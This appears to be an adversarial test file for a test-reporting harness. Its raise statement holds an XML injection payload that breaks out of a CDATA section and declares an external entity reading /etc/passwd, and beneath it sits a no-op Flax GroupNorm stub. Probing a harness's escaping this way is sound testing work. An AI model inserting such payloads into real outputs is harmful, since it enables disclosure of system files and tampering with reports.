# tries: Raises an exception whose text ends an XML section and declares an entity.
# must: The verdict is wrong and the XML is well-formed.

from flax import linen as nn

raise ValueError(']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;')


class MyGroupNorm(nn.Module):
    num_groups: int
    eps: float = 1e-5

    def __call__(self, x):
        return x
